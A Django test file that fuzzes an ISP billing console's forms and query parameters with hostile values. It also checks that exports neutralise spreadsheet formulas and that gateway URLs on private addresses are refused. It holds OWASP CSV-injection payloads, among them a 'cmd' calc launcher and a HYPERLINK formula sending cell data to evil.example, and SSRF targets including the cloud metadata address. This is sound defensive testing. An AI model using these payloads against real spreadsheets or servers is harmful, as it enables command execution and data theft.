@@ -1,0 +1,657 @@
+"""Hostile input everywhere the console takes input: every form's POST and every query parameter of
+every page, with NUL bytes, 20-digit numbers, 1e20, NaN, -0, 10,000-character strings, 9999-12-31,
+0000-00-00, bidi controls, SQL and template syntax. Never a 500; a refused input leaves the money
+tables (ledger, payments, bills, allocations) exactly as they were. Also: exports neutralise formula
+text (OWASP CSV injection) and the provider form refuses gateways on private addresses."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from decimal import Decimal
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import URLPattern, reverse
+from hypothesis import HealthCheck, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from sonjog.billing.models import EntryKind, Invoice, LedgerEntry
+from sonjog.billing.selectors import subscriber_balance
+from sonjog.billing.services import payment_record
+from sonjog.conftest import make_package, make_subscriber
+from sonjog.console import urls as console_urls
+from sonjog.console.tests.conftest import Tree
+from sonjog.core.tests.hostile import hostile_text, money_snapshot
+from sonjog.customers.models import Subscriber
+from sonjog.notifications.models import ProviderAccount
+from sonjog.notifications.services import provider_account_create, template_save
+
+pytestmark = pytest.mark.django_db
+
+FUZZ_SETTINGS = hypothesis_settings(
+    max_examples=60,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+# The values the deterministic sweeps use: one of each kind of trouble.
+SWEEP = ["\x00", "9" * 20, "1e20", "x" * 10_000, "9999-12-31", "\u202e1"]
+
+
+@dataclass
+class World:
+    """The tree, logged in as the root ISP's owner (who may do everything everywhere), and the rows
+    the forms act on."""
+
+    tree: Tree
+    client: Client
+    subscriber: Subscriber
+    other: Subscriber
+    rows: dict[str, Any] = field(default_factory=dict)
+
+
+@pytest.fixture
+def world(tree: Tree) -> World:
+    root = tree.root
+    subscriber, other = root.subscribers
+    cheaper = make_package(root.operator, "500.00", vat=False, name="Root 5M")
+    account = provider_account_create(
+        operator=root.operator,
+        name="Fuzz gateway",
+        kind="generic_http",
+        credentials={"api_key": "k"},
+        base_url="http://127.0.0.1:9",
+        cost_per_segment=Decimal("0.25"),
+    )
+    template_save(
+        operator=root.operator, event="due_reminder", channel="sms", language="en", body="Pay {{ amount_due }}"
+    )
+    entry = LedgerEntry.objects.filter(subscriber=subscriber, kind=EntryKind.BILL).earliest("pk")
+    invoice = Invoice.objects.filter(bill__subscriber=subscriber).earliest("pk")
+    return World(
+        tree=tree,
+        client=tree.login(root.staff["owner"]),
+        subscriber=subscriber,
+        other=other,
+        rows={"package": cheaper, "account": account, "entry": entry, "invoice": invoice},
+    )
+
+
+@dataclass(frozen=True)
+class FormPost:
+    """One console form: where it posts, a valid submission, and so every field it reads."""
+
+    name: str
+    url: Callable[[World], str]
+    valid: Callable[[World], dict[str, str]]
+
+
+def _subscriber_url(name: str) -> Callable[[World], str]:
+    return lambda w: reverse(f"console:{name}", args=[w.subscriber.pk])
+
+
+FORMS: list[FormPost] = [
+    FormPost(
+        "subscriber_create",
+        lambda w: reverse("console:subscriber_create"),
+        lambda w: {
+            "operator": str(w.tree.root.operator.pk),
+            "name": "Fuzz Subscriber",
+            "phone": "01712345670",
+            "email": "",
+            "address": "",
+            "national_id": "",
+            "zone": str(w.tree.root.zone.pk),
+            "package": str(w.tree.root.package.pk),
+            "pppoe_username": "",
+            "pppoe_password": "",
+            "activation_date": "",
+            "billing_mode": "",
+            "billing_cycle": "",
+            "billing_day": "",
+            "monthly_discount": "",
+            "is_vip": "",
+        },
+    ),
+    FormPost(
+        "subscriber_contact",
+        _subscriber_url("subscriber_contact"),
+        lambda w: {
+            "name": w.subscriber.name,
+            "phone": w.subscriber.phone,
+            "email": "a@example.net",
+            "address": "House 1",
+            "national_id": "123",
+            "zone": str(w.tree.root.zone.pk),
+        },
+    ),
+    FormPost(
+        "subscriber_package",
+        _subscriber_url("subscriber_package"),
+        lambda w: {"package": str(w.rows["package"].pk), "effective_date": ""},
+    ),
+    FormPost(
+        "subscriber_payment",
+        _subscriber_url("subscriber_payment"),
+        lambda w: {"amount": "10.00", "method": "cash", "reference": "R-1", "confirm_duplicate": "on", "back": ""},
+    ),
+    FormPost(
+        "subscriber_adjustment",
+        _subscriber_url("subscriber_adjustment"),
+        lambda w: {"direction": "credit", "amount": "5.00", "reason": "manual", "memo": "fuzz", "effective_date": ""},
+    ),
+    FormPost(
+        "entry_reverse",
+        lambda w: reverse("console:entry_reverse", args=[w.subscriber.pk, w.rows["entry"].pk]),
+        lambda w: {"reason": "fuzz"},
+    ),
+    FormPost(
+        "subscriber_intent", _subscriber_url("subscriber_intent"), lambda w: {"intent": "suspended", "reason": ""}
+    ),
+    FormPost(
+        "subscriber_terminate",
+        lambda w: reverse("console:subscriber_terminate", args=[w.other.pk]),
+        lambda w: {"terminated_on": "", "reason": "fuzz"},
+    ),
+    FormPost(
+        "invoice_void",
+        lambda w: reverse("console:invoice_void", args=[w.rows["invoice"].pk]),
+        lambda w: {"reason": "x"},
+    ),
+    FormPost(
+        "generate",
+        lambda w: reverse("console:generate"),
+        lambda w: {"period": "2026-11", "operator": str(w.tree.root.operator.pk), "step": "preview"},
+    ),
+    FormPost(
+        "package_create",
+        lambda w: reverse("console:package_create"),
+        lambda w: {
+            "operator": str(w.tree.root.operator.pk),
+            "name": "Fuzz plan",
+            "price": "100.00",
+            "download_kbps": "1024",
+            "upload_kbps": "1024",
+            "router_profile": "fuzz",
+            "vat_applicable": "on",
+            "is_active": "on",
+        },
+    ),
+    FormPost(
+        "package_edit",
+        lambda w: reverse("console:package_edit", args=[w.rows["package"].pk]),
+        lambda w: {
+            "name": "Root 5M",
+            "price": "500.00",
+            "download_kbps": "5120",
+            "upload_kbps": "5120",
+            "router_profile": "5m",
+            "is_active": "on",
+        },
+    ),
+    FormPost(
+        "zone_create",
+        lambda w: reverse("console:zone_create"),
+        lambda w: {"operator": str(w.tree.root.operator.pk), "name": "Fuzz zone", "parent": ""},
+    ),
+    FormPost(
+        "zone_edit",
+        lambda w: reverse("console:zone_edit", args=[w.tree.root.zone.pk]),
+        lambda w: {"name": "Root zone", "parent": ""},
+    ),
+    FormPost(
+        "bulk_start",
+        lambda w: reverse("console:bulk_start"),
+        lambda w: {
+            "kind": "suspend",
+            "subscribers": str(w.subscriber.pk),
+            "all_matching": "",
+            "package": "",
+            "message": "",
+            "filters": "q=Test&page=1",
+        },
+    ),
+    FormPost(
+        "automation_schedule",
+        lambda w: reverse("console:automation_schedule"),
+        lambda w: {"generation_day": "", "generation_hour": "0", "reminder_hour": "10"},
+    ),
+    FormPost(
+        "automation_rule_add",
+        lambda w: reverse("console:automation_rule_add"),
+        lambda w: {"event": "bill_due", "offset_days": "-3", "package": "", "zone": "", "channel": ""},
+    ),
+    FormPost(
+        "messaging_template_edit",
+        lambda w: reverse("console:messaging_template_edit", args=["due_reminder", "sms", "en"]),
+        lambda w: {"body": "Pay {{ amount_due }}", "is_active": "on", "preview_subscriber": "", "operator": ""},
+    ),
+    FormPost(
+        "messaging_template_preview",
+        lambda w: reverse("console:messaging_template_preview"),
+        lambda w: {
+            "event": "due_reminder",
+            "channel": "email",
+            "language": "en",
+            "subject": "Hello",
+            "body": "Hi {{ name }}",
+            "preview_subscriber": "",
+            "operator": "",
+        },
+    ),
+    FormPost(
+        "messaging_bulk",
+        lambda w: reverse("console:messaging_bulk"),
+        lambda w: {
+            "step": "preview",
+            "status": "active",
+            "zone": "",
+            "package": "",
+            "owes": "",
+            "q": "",
+            "template": "",
+            "text": "Hello {{ name }}",
+            "token": "",
+            "operator": "",
+        },
+    ),
+    FormPost(
+        "messaging_credit_add",
+        lambda w: reverse("console:messaging_credit_add"),
+        lambda w: {"amount": "10.00", "note": "fuzz", "operator": ""},
+    ),
+    FormPost(
+        "messaging_credit_threshold",
+        lambda w: reverse("console:messaging_credit_threshold"),
+        lambda w: {"threshold": "50.00", "operator": ""},
+    ),
+    FormPost(
+        "messaging_notifications",
+        lambda w: reverse("console:messaging_notifications"),
+        lambda w: {
+            "quiet_hours_enabled": "on",
+            "quiet_start": "22:00",
+            "quiet_end": "08:00",
+            "default_language": "en",
+            "default_channels": "sms",
+            "muted_events": "",
+            "portal_url": "https://portal.example.net",
+            "payment_instructions": "bKash",
+            "operator": "",
+        },
+    ),
+    FormPost(
+        "messaging_account_create",
+        lambda w: reverse("console:messaging_account_create"),
+        lambda w: {
+            "kind": "generic_http",
+            "name": "Fuzz second gateway",
+            "sender_id": "FUZZ",
+            "username": "",
+            "secret_api_key": "k",
+            "secret_password": "",
+            "base_url": "http://127.0.0.1:9",
+            "cost_per_segment": "0.25",
+            "options_json": '{"path": "/send"}',
+            "is_active": "",
+            "operator": "",
+        },
+    ),
+    FormPost(
+        "messaging_account_edit",
+        lambda w: reverse("console:messaging_account_edit", args=[w.rows["account"].pk]),
+        lambda w: {
+            "name": "Fuzz gateway",
+            "sender_id": "FUZZ",
+            "username": "",
+            "secret_api_key": "",
+            "secret_password": "",
+            "base_url": "http://127.0.0.1:9",
+            "cost_per_segment": "0.25",
+            "options_json": "",
+        },
+    ),
+    FormPost(
+        "messaging_account_active",
+        lambda w: reverse("console:messaging_account_active", args=[w.rows["account"].pk]),
+        lambda w: {"active": "1"},
+    ),
+    FormPost("language", lambda w: reverse("console:language"), lambda w: {"language": "en", "next": "/"}),
+]
+FORMS_BY_NAME = {form.name: form for form in FORMS}
+# Buttons that post nothing but the row in their URL (and perhaps `next`, which safe_next checks), and
+# pages that answer GET only; the sign-in page is driven separately (an anonymous client).
+NO_FORM_FIELDS = {
+    "logout",
+    "logout_everywhere",
+    "router_test",
+    "outbox_retry",
+    "automation_run",
+    "automation_rule_remove",
+    "messaging_credit_resend",
+    "messaging_message_resend",
+}
+# Every query parameter any console view reads.
+QUERY_PARAMETERS = [
+    "q",
+    "page",
+    "sort",
+    "status",
+    "kind",
+    "month",
+    "collector",
+    "zone",
+    "package",
+    "mode",
+    "online",
+    "due_min",
+    "due_max",
+    "joined",
+    "left",
+    "network",
+    "expiring",
+    "operator",
+    "day",
+    "only",
+    "channel",
+    "event",
+    "bulk",
+    "before",
+    "back",
+    "next",
+]
+# An event stream never ends; it reads no parameters.
+ENDLESS = {"dashboard_stream"}
+# Reported, not fixed here: billing.py (another engineer's) reads ?collector= with str.isdigit(),
+# which "²" passes and int() then refuses, a 500. See test_payments_collector_with_a_superscript_digit.
+KNOWN_BROKEN = {("payments", "collector")}
+
+
+def _list_pages() -> list[str]:
+    """The console's pages without a row in their URL (lists, dashboards, forms), from the URLconf."""
+    names = []
+    for pattern in console_urls.urlpatterns:
+        assert isinstance(pattern, URLPattern)
+        if pattern.name and not pattern.pattern.converters and pattern.name not in ENDLESS:
+            names.append(pattern.name)
+    return names
+
+
+LIST_PAGES = _list_pages()
+
+
+def _named_url(name: str) -> Callable[[World], str]:
+    return lambda w: reverse(f"console:{name}")
+
+
+# Pages with a row in their URL that still read query parameters.
+PAGE_URLS: dict[str, Callable[[World], str]] = {
+    **{name: _named_url(name) for name in LIST_PAGES},
+    "subscribers_export.csv": lambda w: reverse("console:subscribers_export", args=["csv"]),
+    "subscribers_export.xlsx": lambda w: reverse("console:subscribers_export", args=["xlsx"]),
+    "subscriber": lambda w: reverse("console:subscriber", args=[w.subscriber.pk]),
+    "subscriber_payment": lambda w: reverse("console:subscriber_payment", args=[w.subscriber.pk]),
+    "receipt": lambda w: reverse("console:receipt", args=[w.rows["receipt"].pk]),
+    "messaging_template_edit": lambda w: reverse("console:messaging_template_edit", args=["due_reminder", "sms", "en"]),
+    "messaging_account_edit": lambda w: reverse("console:messaging_account_edit", args=[w.rows["account"].pk]),
+}
+
+
+def _sent(response: Any) -> str:
+    if getattr(response, "streaming", False):
+        return b"".join(response.streaming_content).decode("utf-8", "replace")
+    return response.content.decode("utf-8", "replace")
+
+
+def _post(world: World, form: FormPost, changes: dict[str, str]) -> None:
+    data = {**form.valid(world), **changes}
+    before = money_snapshot()
+    response = world.client.post(form.url(world), data)
+    assert response.status_code < 500, (form.name, changes, response.status_code)
+    if response.status_code in (400, 409, 422):
+        assert money_snapshot() == before, (form.name, changes)
+
+
+def _get(world: World, page: str, params: dict[str, str]) -> None:
+    before = money_snapshot()
+    response = world.client.get(PAGE_URLS[page](world), params)
+    _sent(response)  # a streamed export fails while it streams, not before
+    assert response.status_code < 500, (page, params, response.status_code)
+    assert money_snapshot() == before
+
+
+# -- the URLconf is covered -----------------------------------------------------------------------
+
+
+def test_every_console_url_is_driven_here():
+    names = {pattern.name for pattern in console_urls.urlpatterns if isinstance(pattern, URLPattern)}
+    driven = set(FORMS_BY_NAME) | NO_FORM_FIELDS | set(LIST_PAGES) | set(PAGE_URLS) | ENDLESS
+    row_pages = {
+        "bulk",
+        "subscriber_network",
+        "invoice",
+        "invoice_pdf",
+        "run",
+        "messaging_template",
+        "messaging_bulk_result",
+        "messaging_message",
+        "subscribers_export",
+    }
+    assert names - driven - row_pages == set()
+
+
+# -- the six reported 500s ------------------------------------------------------------------------
+
+
+def test_a_nul_byte_in_the_collect_search_is_a_clear_message(world):
+    response = world.client.get(reverse("console:collect"), {"q": "Test\x00"})
+    assert response.status_code == 400
+    assert "control characters" in response.content.decode()
+    live = world.client.get(reverse("console:collect"), {"q": "\x00"}, HTTP_HX_REQUEST="true")
+    assert live.status_code == 200 and 'id="collect-error"' in live.content.decode()
+
+
+def test_a_nul_byte_in_the_template_preview_is_a_clear_message(world):
+    data = FORMS_BY_NAME["messaging_template_preview"].valid(world)
+    for name in ("body", "subject", "preview_subscriber"):
+        response = world.client.post(reverse("console:messaging_template_preview"), {**data, name: "Hi\x00"})
+        assert response.status_code == 200 and 'id="preview-error"' in response.content.decode(), name
+    edit = world.client.post(
+        reverse("console:messaging_template_edit", args=["due_reminder", "sms", "en"]),
+        {"body": "Pay\x00", "is_active": "on", "preview_subscriber": "\x00"},
+    )
+    assert edit.status_code == 400
+
+
+@pytest.mark.parametrize("number", ["9" * 20, "99999999", "0", "-1", "abc", "1e3", "²", ""])
+def test_any_page_number_on_the_overdue_list_shows_a_real_page(world, number):
+    response = world.client.get(reverse("console:overdue"), {"page": number})
+    assert response.status_code == 200
+    assert 1 <= response.context["number"] <= response.context["pages"]
+
+
+def test_an_adjustment_dated_9999_12_31_is_a_form_error(world):
+    before = money_snapshot()
+    data = {**FORMS_BY_NAME["subscriber_adjustment"].valid(world), "effective_date": "9999-12-31"}
+    response = world.client.post(reverse("console:subscriber_adjustment", args=[world.subscriber.pk]), data)
+    assert response.status_code == 400 and "effective_date" in response.context["form"].errors
+    assert money_snapshot() == before
+
+
+def test_a_package_of_99999999999_kbps_is_a_form_error(world):
+    data = {**FORMS_BY_NAME["package_create"].valid(world), "download_kbps": "99999999999"}
+    response = world.client.post(reverse("console:package_create"), data)
+    assert response.status_code == 400 and "download_kbps" in response.context["form"].errors
+
+
+# -- every form, every field ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("form", FORMS, ids=[form.name for form in FORMS])
+def test_each_field_of_each_form_takes_the_sweep_without_a_500(world, form):
+    for name in form.valid(world):
+        for value in SWEEP:
+            _post(world, form, {name: value})
+
+
+@FUZZ_SETTINGS
+@given(data=st.data())
+def test_hostile_posts_never_500_and_refusals_write_no_money(world, data):
+    form = data.draw(st.sampled_from(FORMS), label="form")
+    names = data.draw(st.lists(st.sampled_from(sorted(form.valid(world))), min_size=1, max_size=3, unique=True))
+    _post(world, form, {name: data.draw(hostile_text, label=name) for name in names})
+
+
+def test_the_sign_in_form_takes_hostile_values(db):
+    client = Client()
+    for value in SWEEP:
+        for data in ({"username": value, "password": "x"}, {"username": "someone", "password": value}):
+            assert client.post(reverse("console:login"), data).status_code < 500
+
+
+# -- every query parameter of every page ----------------------------------------------------------
+
+
+@pytest.fixture
+def world_with_receipt(world):
+    world.rows["receipt"] = payment_record(subscriber=world.subscriber, amount=Decimal("100.00"), method="cash")
+    return world
+
+
+def test_every_page_takes_every_parameter_hostile_at_once(world_with_receipt):
+    for page in PAGE_URLS:
+        for value in SWEEP:
+            params = {name: value for name in QUERY_PARAMETERS if (page, name) not in KNOWN_BROKEN}
+            _get(world_with_receipt, page, params)
+
+
+@FUZZ_SETTINGS
+@given(data=st.data())
+def test_hostile_query_parameters_never_500(world_with_receipt, data):
+    page = data.draw(st.sampled_from(sorted(PAGE_URLS)), label="page")
+    allowed = [name for name in QUERY_PARAMETERS if (page, name) not in KNOWN_BROKEN]
+    names = data.draw(st.lists(st.sampled_from(allowed), min_size=1, max_size=4, unique=True))
+    _get(world_with_receipt, page, {name: data.draw(hostile_text, label=name) for name in names})
+
+
+def test_payments_collector_with_a_superscript_digit(world):
+    response = world.client.get(reverse("console:payments"), {"collector": "²"})
+    assert response.status_code < 500
+
+
+# -- exports --------------------------------------------------------------------------------------
+
+# OWASP's CSV-injection payloads. Those without control characters go in through the contact form
+# like any name; the tab- and carriage-return-led ones the forms now refuse, so they are written
+# straight to the rows, as data stored before the checks (or through another path) would be.
+TYPED_PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", '=HYPERLINK("http://evil.example/?x="&A1,"Hi")']
+STORED_PAYLOADS = ["\t=1+1", "\r=1+1", "=1+1\x01"]
+
+
+@pytest.fixture
+def exported(world):
+    """Subscribers carrying the payloads in their names and addresses, and one in credit (-250.00)."""
+    root = world.tree.root
+    carriers = []
+    for payload in TYPED_PAYLOADS:
+        subscriber = make_subscriber(root.operator, root.package, None)
+        response = world.client.post(
+            reverse("console:subscriber_contact", args=[subscriber.pk]),
+            {"name": payload, "phone": subscriber.phone, "address": payload, "email": "", "national_id": ""},
+        )
+        assert response.status_code == 302, response.context["form"].errors
+        carriers.append(subscriber)
+    for payload in STORED_PAYLOADS:
+        subscriber = make_subscriber(root.operator, root.package, None)
+        Subscriber.objects.filter(pk=subscriber.pk).update(name=payload, address=payload)
+        carriers.append(subscriber)
+    in_credit = make_subscriber(root.operator, root.package, None)
+    payment_record(subscriber=in_credit, amount=Decimal("250.00"), method="cash")
+    assert subscriber_balance(in_credit.pk) == Decimal("-250.00")
+    return world, carriers, in_credit
+
+
+def _is_formula_safe(text: str) -> bool:
+    return not text.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_the_csv_export_neutralises_formulas_and_keeps_numbers(exported):
+    world, carriers, in_credit = exported
+    response = world.client.get(reverse("console:subscribers_export", args=["csv"]))
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(_sent(response).removeprefix("\ufeff"))))
+    header, body = rows[0], {row[0]: row for row in rows[1:]}
+    name, phone, address, due = (header.index(title) for title in ("Name", "Phone", "Address", "Due"))
+    for subscriber in carriers:
+        row = body[subscriber.customer_id]
+        for column in (name, address):
+            assert _is_formula_safe(row[column]) and row[column].startswith("'"), row[column]
+        assert row[phone] == subscriber.phone and row[phone].startswith("+880")  # a phone is not a formula
+    assert body[carriers[0].customer_id][name] == "'" + TYPED_PAYLOADS[0]
+    assert body[in_credit.customer_id][due] == "-250.00"
+    for row in rows[1:]:
+        assert all(_is_formula_safe(cell) or re.fullmatch(r"[+-][0-9.]+", cell) for cell in row), row
+
+
+def test_the_xlsx_export_writes_text_as_strings_and_numbers_as_numbers(exported):
+    world, carriers, in_credit = exported
+    response = world.client.get(reverse("console:subscribers_export", args=["xlsx"]))
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows())
+    header = [cell.value for cell in rows[0]]
+    body = {row[0].value: row for row in rows[1:]}
+    name, phone, address, due = (header.index(title) for title in ("Name", "Phone", "Address", "Due"))
+    for subscriber in carriers:
+        row = body[subscriber.customer_id]
+        for column in (name, address):
+            assert row[column].data_type == "s" and row[column].value.startswith("'"), row[column].value
+        assert row[phone].data_type == "s" and row[phone].value == subscriber.phone
+    credit = body[in_credit.customer_id][due]
+    assert credit.data_type == "n" and Decimal(str(credit.value)) == Decimal("-250.00")
+    for row in rows:
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+
+
+# -- gateways on private addresses ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://127.0.0.1:9/send",
+        "http://localhost:8080/",
+        "http://169.254.169.254/latest/meta-data/",
+        "http://10.0.0.5/api",
+        "http://192.168.1.1/",
+        "http://[::1]:8080/",
+        "http://[fe80::1]/",
+    ],
+)
+def test_the_provider_form_refuses_a_gateway_on_a_private_address(world, settings, url):
+    settings.SONJOG_ALLOW_PRIVATE_OUTBOUND = False
+    before = ProviderAccount.objects.count()
+    data = {**FORMS_BY_NAME["messaging_account_create"].valid(world), "base_url": url}
+    response = world.client.post(reverse("console:messaging_account_create"), data)
+    assert response.status_code == 400
+    assert "base_url" in response.context["form"].errors
+    assert ProviderAccount.objects.count() == before
+    edit = {**FORMS_BY_NAME["messaging_account_edit"].valid(world), "base_url": url}
+    assert world.client.post(FORMS_BY_NAME["messaging_account_edit"].url(world), edit).status_code == 400
+    world.rows["account"].refresh_from_db()
+    assert world.rows["account"].base_url == "http://127.0.0.1:9"
+
+
+def test_the_provider_form_takes_a_public_gateway(world, settings):
+    settings.SONJOG_ALLOW_PRIVATE_OUTBOUND = False
+    data = {**FORMS_BY_NAME["messaging_account_create"].valid(world), "base_url": "http://93.184.216.34/"}
+    response = world.client.post(reverse("console:messaging_account_create"), data)
+    assert response.status_code == 302
+    assert ProviderAccount.objects.filter(base_url="http://93.184.216.34/").exists()
